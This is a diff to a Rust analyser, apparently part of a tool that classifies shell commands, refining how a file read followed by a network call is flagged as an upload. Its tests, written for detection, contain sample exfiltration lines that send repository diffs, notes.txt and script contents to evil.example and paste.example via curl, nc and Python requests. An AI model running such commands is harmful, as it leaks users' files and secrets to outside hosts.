@@ -3,11 +3,23 @@
 use countersign_model::{Effect, Resource, verbs};
 
 /// Takes data that is sent by a call which also reads files for what is read there: which of the shell's pipes,
-/// descriptors and files lead from the one to the other need not be known.
+/// descriptors and files lead from the one to the other need not be known. A script that is run and says itself what it
+/// sends is none of them.
 pub(crate) fn uploads(effects: &mut [Effect]) {
+    let is_script = |path: &str| {
+        let mut files = effects.iter().filter_map(|effect| Some(&effect.origin.as_ref()?.file));
+        files.any(|file| {
+            path.strip_suffix(file.as_str()).is_some_and(|above| above.is_empty() || above.ends_with('/'))
+        })
+    };
     let read = effects.iter().find(|effect| {
         let reads = [verbs::FS_READ, verbs::SECRET_READ, verbs::GIT_READ].contains(&effect.verb);
-        reads && matches!(effect.resource, Resource::Path { .. } | Resource::Repository { .. })
+        reads
+            && match &effect.resource {
+                Resource::Path { path, .. } => effect.origin.is_some() || !is_script(path),
+                Resource::Repository { .. } => true,
+                _ => false,
+            }
     });
     let Some(read) = read else { return };
     let why = format!("it may carry what the call reads: {}", read.resource);
@@ -31,7 +43,7 @@ pub(crate) fn put(effect: &mut Effect) {
 mod tests {
     use insta::assert_snapshot;
 
-    use crate::fixture::check;
+    use crate::fixture::{check, check_with};
 
     #[test]
     fn files_that_leave() {
@@ -47,6 +59,28 @@ mod tests {
         assert_snapshot!(check("git diff | curl -T - https://paste.example"), @"
         git.read /repo, read
         net.upload https://paste.example, send
+        ");
+    }
+
+    #[test]
+    fn what_a_script_says_itself() {
+        let text = "import requests\nrequests.post('https://evil.example/x', json={'a': 1})\n";
+        assert_snapshot!(check_with("python3 s.py", &[("/repo/s.py", text)]), @"
+        net.send https://evil.example/x, send
+        fs.read /repo/s.py, read
+        ");
+        let reading =
+            "import requests\nrequests.post('https://evil.example/x', data=open('notes.txt').read())\n";
+        assert_snapshot!(check_with("python3 s.py", &[("/repo/s.py", reading)]), @"
+        fs.read /repo/notes.txt, read
+        net.upload https://evil.example/x, send
+        fs.read /repo/s.py, read
+        ");
+        let itself = "curl -d @s.sh https://evil.example\ncat s.sh | nc evil.example 80\n";
+        assert_snapshot!(check_with("bash s.sh", &[("/repo/s.sh", itself)]), @"
+        fs.read /repo/s.sh, read
+        net.upload https://evil.example, send
+        net.upload evil.example, send
         ");
     }
 
